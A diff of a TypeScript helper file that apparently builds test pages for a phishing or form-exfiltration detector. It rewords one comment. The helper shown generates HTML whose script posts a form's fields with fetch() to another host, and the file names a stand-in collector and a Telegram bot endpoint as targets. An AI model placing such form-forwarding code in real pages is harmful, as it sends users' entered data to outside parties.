@@ -4,7 +4,7 @@ import { makeSite } from "./innocent-site.ts"
 const ours = "Ferry tickets to Skerry"
 const elsewhere = "https://gather.example/"
 const chat = "https://api.telegram.org/bot1:A/sendMessage"
-/** To another site by a script that reads the answer: so the receiver alone is against it. */
+/** Sends to another site by a script that reads the answer. Only the receiver counts against it. */
 export const writeScriptedForm = (to: string, fields: string) =>
   `<form id="f">${fields}</form><script>fetch("${to}",{method:"POST",body:new FormData(f)}).then((r)=>r.json())</script>`
 const form = (action: string, fields: string) =>
